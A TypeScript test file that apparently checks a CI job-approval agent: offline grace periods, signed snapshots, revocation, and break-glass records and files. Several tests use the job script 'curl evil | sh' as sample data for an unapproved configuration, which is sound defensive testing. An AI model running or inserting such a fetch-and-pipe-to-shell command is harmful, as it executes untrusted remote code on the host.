import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { admit } from '../../agent/src/app/admit.ts';
import { reviewBreakGlass } from '../../agent/src/app/break-glass.ts';
import { revoke } from '../../agent/src/app/revoke.ts';
import { readPolicy } from '../../agent/src/directories/policy-file.ts';
import { readHostBreakGlass } from '../../agent/src/domain/host-break-glass.ts';
import { DEFAULT_POLICY } from '../../agent/src/domain/policy.ts';
import { NO_TOLERANCE } from '../../agent/src/domain/tolerate.ts';
import { variableTag } from '../../agent/src/domain/variable-tag.ts';
import type { AdmitRequest } from '../../agent/src/ports/gatekeeper.ts';
import { auditKeeper } from '../support/audit-keeper.ts';
import { startHub, welcomed } from '../support/hub-server.ts';
import {
  DAY,
  HOUR,
  hubWorld,
  type JobSpec,
  MINUTE,
  policyWith,
  requestFor,
  VARIABLE_KEY,
  type World,
} from '../support/hub-world.ts';
import { type OfflineAgent, offlineAgent } from '../support/offline-agent.ts';

const secret = (value: string) => ({
  variables: [
    {
      key: 'DB_PASSWORD',
      value: [{ hmac: variableTag(VARIABLE_KEY, 4242, 'DB_PASSWORD', JSON.stringify(value)) }],
      public: false,
      masked: true,
      file: false,
      raw: false,
    },
  ],
});
const AWAY = [
  ['1 minute', MINUTE],
  ['1 hour', HOUR],
  ['1 day', DAY],
] as const;
const main: JobSpec = { id: 1, ref: 'refs/heads/main', protected: true };
const feature: JobSpec = { id: 1, ref: 'refs/heads/feature', protected: false };
const GLASS = { reason: 'the hub burns', until: Number.MAX_SAFE_INTEGER };
const FREEZE = `
freeze:
  - name: weekends
    time_zone: UTC
    weekly: [{ from: fri 16:00, to: mon 07:00 }]
`;

/** What is asked of an agent whose hub is away, and how it was approved before: the table of offline.md, row by row. */
interface Row {
  readonly what: string;
  readonly before: (world: World, job: JobSpec) => Promise<unknown>;
  readonly asked?: (job: JobSpec) => AdmitRequest;
  readonly glass?: boolean;
  /** After a minute, an hour and a day, on a protected ref and elsewhere; `false`: it waits. */
  readonly protectedRef: readonly [string | false, string | false, string | false];
  readonly elsewhere: readonly [string | false, string | false, string | false];
}
const later = (job: JobSpec): JobSpec => ({ ...job, id: 2, pipeline: 2 });
const approved = async (world: World, job: JobSpec, more = {}) => {
  await world.admit(job);
  await world.approve('maria', 1, more);
};
const never = [false, false, false] as const;
const ROWS: readonly Row[] = [
  {
    what: 'approved digest',
    before: approved,
    protectedRef: ['approved', false, false],
    elsewhere: ['approved', 'approved', false],
  },
  {
    what: 'tolerated one',
    before: (world, job) => approved(world, { ...job, extra: secret('a') }),
    asked: (job) => requestFor({ ...later(job), extra: secret('b') }),
    protectedRef: ['tolerated', false, false],
    elsewhere: ['tolerated', 'tolerated', false],
  },
  {
    what: 'unknown',
    before: approved,
    asked: (job) => requestFor({ ...later(job), script: ['make everything'] }),
    protectedRef: never,
    elsewhere: never,
  },
  {
    what: 'revoked',
    before: async (world, job) => {
      await approved(world, job);
      await revoke(world.context, world.caller('maria'), 1, 'no more');
    },
    protectedRef: never,
    elsewhere: never,
  },
  {
    what: 'rejected and remembered',
    before: async (world, job) => {
      await world.admit(job);
      await world.reject('maria', 1, { remember: true });
    },
    glass: true,
    // It is remembered for a day: then the glass is broken for it as for anything else.
    protectedRef: [false, false, 'break_glass'],
    elsewhere: [false, false, 'break_glass'],
  },
  {
    what: 'uses: N',
    before: (world, job) => approved(world, job, { lifetime: 'uses:5' }),
    protectedRef: never,
    elsewhere: never,
  },
  {
    what: 'run',
    before: (world, job) => approved(world, job, { lifetime: 'run' }),
    protectedRef: never,
    elsewhere: never,
  },
  {
    what: 'deployment',
    before: (world, job) => approved(world, { ...job, environment: 'review/1' }),
    asked: (job) => requestFor({ ...later(job), environment: 'review/1' }),
    protectedRef: never,
    elsewhere: never,
  },
  {
    what: 'freeze window',
    before: async (world, job) => {
      await approved(world, job);
      world.policy = readPolicy(FREEZE, 'policy.yaml');
    },
    // The world begins on a Sunday: after a day the window is over, and so is the grace.
    protectedRef: never,
    elsewhere: never,
  },
  {
    what: 'break-glass file',
    before: (world, job) => world.admit(job),
    glass: true,
    protectedRef: ['break_glass', 'break_glass', 'break_glass'],
    elsewhere: ['break_glass', 'break_glass', 'break_glass'],
  },
];

describe('while the hub is away', () => {
  let world: World;
  let agent: OfflineAgent;
  beforeEach(async () => {
    world = await hubWorld();
    world.policy = DEFAULT_POLICY;
    agent = offlineAgent(world);
  });
  afterEach(() => world.store.close());
  const pass = (ms: number) => {
    agent.time.clock += ms;
    agent.time.monotonic += ms;
  };

  for (const [ref, job] of [
    ['protectedRef', main],
    ['elsewhere', feature],
  ] as const)
    for (const row of ROWS)
      it.each(AWAY)(
        `T29, T30 ${row.what}, ${ref === 'elsewhere' ? 'unprotected' : 'protected'} ref, for %s`,
        async (away, ms) => {
          await row.before(world, job);
          await agent.refresh();
          pass(ms);
          if (row.glass === true) agent.glass = GLASS;
          const wanted = row[ref][AWAY.findIndex(([name]) => name === away)];
          const answer = await agent.asks((row.asked ?? ((each) => requestFor(later(each))))(job));
          if (wanted === false) expect(answer).toContain('the hub is away, and');
          else expect(answer).toBe(wanted);
        },
      );

  it('T30 lets nothing run before the hub has ever said anything', async () => {
    await approved(world, main);
    expect(await agent.asks(requestFor(later(main)))).toContain('no snapshot yet');
  });

  it('T29 a clock that is put back prolongs nothing, nor does a restart with it', async () => {
    await approved(world, main);
    await agent.refresh();
    agent.time.monotonic += HOUR - 1;
    agent.time.clock -= 10 * DAY;
    expect(await agent.asks(requestFor(later(main)))).toBe('approved');
    agent.time.monotonic += 1;
    expect(await agent.asks(requestFor(later(main)))).toContain('the grace is over');
    agent.snapshots.close();
    agent.restart();
    expect(await agent.asks(requestFor(later(main)))).toContain('the grace is over');
  });

  it('T29 an old snapshot replaces no newer one, not even after a restart', async () => {
    await approved(world, main);
    const older = await agent.snapshot();
    await revoke(world.context, world.caller('maria'), 1, 'no more');
    await agent.refresh();
    for (const restarted of [false, true]) {
      if (restarted) agent.restart();
      agent.snapshots.take(older, VARIABLE_KEY);
      expect(agent.snapshots.seq()).toBe(2);
      expect(await agent.asks(requestFor(later(main)))).toContain('no approval that this agent has');
    }
  });

  it('T28 takes no snapshot of another hub, for another agent, or with another body', async () => {
    await approved(world, main);
    const good = await agent.snapshot();
    for (const bad of [
      await agent.snapshot({ signer: auditKeeper(2).signer }),
      await agent.snapshot({ agent: 'other' }),
      { ...good, body: good.body!.replace('"denials":[]', '"denials":[ ]') },
      { ...good, head: good.head.replace('"seq":1', '"seq":9') },
    ]) {
      agent.snapshots.take(bad, VARIABLE_KEY);
      expect(agent.snapshots.seq()).toBe(0);
    }
    agent.snapshots.take(good, VARIABLE_KEY);
    expect(await agent.asks(requestFor(later(main)))).toBe('approved');
  });

  it('T32 says nobody’s name, and of no project that the agent has never brought a job of', async () => {
    await approved(world, main);
    await world.admit({ ...main, id: 7, agent: 'other', project: 43, name: 'elsewhere' });
    const { body } = await agent.snapshot();
    expect(body).not.toMatch(/maria|elsewhere/);
  });
});

describe('a snapshot over the link', () => {
  it('T29 reaches a connected agent within a second of a revocation, with a higher number', async () => {
    const hub = await startHub();
    const link = await welcomed(hub.url, hub.keys.embedded);
    const count = () => link.snapshots.length;
    const heads = () => link.snapshots.map(({ head }) => JSON.parse(head) as { seq: number; body: string });
    await expect.poll(count).toBe(1);
    await hub.world.admit(main);
    const { digest } = requestFor(main);
    await hub.call('POST', '/api/v1/holds/1/approve', await hub.token('maria'), { digest });
    hub.world.clock.advance(5_000);
    await expect.poll(count).toBe(2);
    expect(link.snapshots[1]?.body).toContain(digest);
    await hub.call('POST', '/api/v1/approvals/1/revoke', await hub.token('maria'), { comment: 'no more' });
    hub.world.clock.advance(1_000);
    await expect.poll(count).toBe(3);
    expect(link.snapshots[2]?.body).not.toContain(digest);
    // Nothing has changed since: the same body is not sent again, only that it still holds.
    hub.world.clock.advance(30_000);
    await expect.poll(count).toBe(4);
    expect(link.snapshots[3]?.body).toBeNull();
    expect(heads().map(({ seq }) => seq)).toEqual([1, 2, 3, 4]);
    link.socket.terminate();
    const again = await welcomed(hub.url, hub.keys.embedded);
    await expect.poll(() => again.snapshots.length).toBe(1);
    expect(JSON.parse(again.snapshots[0]!.head)).toMatchObject({ seq: 5, agent: 'embedded' });
    again.socket.terminate();
    await hub.close();
  });
});

describe('what ran while the hub was away', () => {
  let world: World;
  beforeEach(async () => {
    world = await hubWorld();
  });
  afterEach(() => world.store.close());
  const run = { kind: 'approved', approval: 1, snapshot: 3, reason: null, at: '2026-11-22T07:30:00.000Z' } as const;
  const tell = (job: JobSpec, offline: AdmitRequest['offline'], agent = 'embedded') =>
    admit(world.context, agent, { ...requestFor(job), ...(offline && { offline }) });
  const rows = async (hold: number) =>
    (await world.store.auditRows({ hold, sight: null }, { after: 0, limit: 20 })).map(({ event, detail }) => [
      event,
      detail,
    ]);

  it('hangs on its approval once the hub is told, once however often it is told', async () => {
    await approved(world, main);
    for (let times = 0; times < 2; times++)
      expect(await tell(later(main), run)).toMatchObject({ outcome: 'pass', hold: 2, approval: 1 });
    expect(await world.store.hold(2)).toMatchObject({ state: 'running', approval: 1 });
    expect(await rows(2)).toEqual([
      ['job_passed_offline', expect.objectContaining({ kind: 'approved', snapshot: 3, revoked_meanwhile: false })],
    ]);
    await world.report('embedded', { hold: 2, jobId: 2, event: 'handed_out' });
    await world.report('embedded', { hold: 2, jobId: 2, event: 'confirmed' });
    await world.report('embedded', { hold: 2, jobId: 2, event: 'ended', detail: { status: 'success' } });
    expect(await world.state(2)).toBe('success');
    expect((await world.store.approval(1))?.timesUsed).toBe(2);
  });

  it('T29 says so of one that was revoked meanwhile', async () => {
    await approved(world, main);
    await revoke(world.context, world.caller('maria'), 1, 'no more');
    await tell(later(main), run);
    expect((await rows(2))[0]?.[1]).toMatchObject({ revoked_meanwhile: true });
    expect((await world.store.approval(1))?.timesUsed).toBe(1);
  });

  it('T16 opens a record that somebody has to close where the glass was broken, and lets nothing else go by it', async () => {
    await tell(main, { ...run, kind: 'break_glass', approval: null, reason: 'the hub burns' });
    const [glass] = await world.store.breakGlasses({ projects: null, open: true }, { after: 0, limit: 5 });
    expect(glass).toMatchObject({ hold: 1, reason: 'the hub burns', rule: 'break-glass file', closed: null });
    expect((await rows(1)).map(([event]) => event)).toEqual(['job_passed_offline', 'break_glass_used']);
    expect(await world.admit(later(main))).toMatchObject({ outcome: 'hold' });
    const closed = await reviewBreakGlass(world.context, world.caller('maria'), glass!.id, 'justified', 'it burned');
    expect(closed.closed).toMatchObject({ finding: 'justified' });
  });

  it('T27 opens one, too, for another configuration than the approval it is said to have run on', async () => {
    await approved(world, main);
    await tell({ ...later(main), script: ['curl evil | sh'] }, run);
    expect(await world.store.breakGlasses({ projects: null, open: true }, { after: 0, limit: 5 })).toHaveLength(1);
    expect((await world.store.approval(1))?.timesUsed).toBe(1);
  });

  const open = () => world.store.breakGlasses({ projects: null, open: true }, { after: 0, limit: 5 });
  const tolerated = { ...run, kind: 'tolerated' } as const;

  it('T56 is compared again where it is said to have been tolerated: what differs is told, and that it may', async () => {
    await approved(world, { ...main, extra: secret('a') });
    await tell({ ...later(main), extra: secret('b') }, tolerated);
    expect(await open()).toEqual([]);
    expect((await rows(2))[0]?.[1]).toMatchObject({
      kind: 'tolerated',
      approved_digest: requestFor({ ...main, extra: secret('a') }).digest,
      tolerated: [expect.objectContaining({ path: expect.stringContaining('DB_PASSWORD') })],
    });
  });

  it.each<[string, (world: World) => Promise<unknown>, JobSpec, AdmitRequest['offline']]>([
    ['another script, said to be tolerated', async () => {}, { ...later(main), script: ['curl evil | sh'] }, tolerated],
    [
      'what the policy tolerates no more',
      async (w) => {
        w.policy = policyWith({ tolerance: NO_TOLERANCE });
      },
      { ...later(main), extra: secret('b') },
      tolerated,
    ],
    [
      'a difference from an approval that was revoked since',
      (w) => revoke(w.context, w.caller('maria'), 1, 'no more'),
      { ...later(main), script: ['curl evil | sh'] },
      tolerated,
    ],
    [
      'one that says nothing of the files that the policy covers',
      async (w) => {
        w.policy = policyWith({ coveredFiles: ['deploy.sh'] });
      },
      { ...later(main), extra: secret('a') },
      run,
    ],
    ['a ref that the approval is not for', async () => {}, { ...later(feature), extra: secret('a') }, run],
  ])('T27, T56 opens one for %s, by an approval that does not cover it', async (_, meanwhile, job, said) => {
    await approved(world, { ...main, extra: secret('a') });
    await meanwhile(world);
    await tell(job, said);
    expect(await open()).toMatchObject([{ hold: 2, reason: expect.stringContaining('does not cover it') }]);
    const [[event, detail]] = (await rows(2)) as [[string, object]];
    expect([event, detail]).toEqual(['job_passed_offline', expect.objectContaining({ not_covered_by: 1 })]);
    expect((await world.store.hold(2))?.approval).toBeNull();
    expect((await world.store.approval(1))?.timesUsed).toBe(1);
  });

  it('T27, T28 opens one, too, for an approval that this hub never gave, and takes no job of another agent', async () => {
    await approved(world, main);
    await tell({ ...later(main), name: 'another job' }, run);
    expect(await world.store.breakGlasses({ projects: null, open: true }, { after: 0, limit: 5 })).toHaveLength(1);
    await expect(tell(main, run, 'other')).rejects.toMatchObject({ code: 'forbidden' });
  });
});

describe('a break-glass file of a host', () => {
  const now = Date.parse('2026-11-22T08:00:00Z');
  const file = (text: string, more = {}) =>
    readHostBreakGlass({ text, uid: 0, mode: 0o100644, writtenAt: now - MINUTE, ...more }, now);
  const good = '# INC-7\nreason: the hub burns\nuntil: 2026-11-22T11:00:00Z\n';

  it('T16 counts where root wrote it, with a reason, for four hours at most', () => {
    expect(file(good)).toEqual({ reason: 'the hub burns', until: now + 3 * HOUR });
    for (const [text, more, problem] of [
      [good, { uid: 1000 }, 'does not belong to root'],
      [good, { mode: 0o100664 }, 'others than root can write it'],
      [good, { mode: 0o100646 }, 'others than root can write it'],
      [good, { writtenAt: now + 1 }, 'written in the future'],
      [good, { writtenAt: now - 2 * HOUR }, 'more than 4 hours after it was written'],
      ['reason: x\nuntil: 2026-11-22T08:00:00Z\n', {}, 'time is over'],
      ['reason: x\nuntil: tomorrow\n', {}, 'does not say until when'],
      ['until: 2026-11-22T11:00:00Z\n', {}, 'gives no reason'],
      [`${good}reason: y\n`, {}, 'wanted two lines'],
      ['yes please\n', {}, 'wanted two lines'],
      ['', {}, 'gives no reason'],
    ] as const)
      expect(file(text, more)).toEqual({ problem: expect.stringContaining(problem) });
  });
});
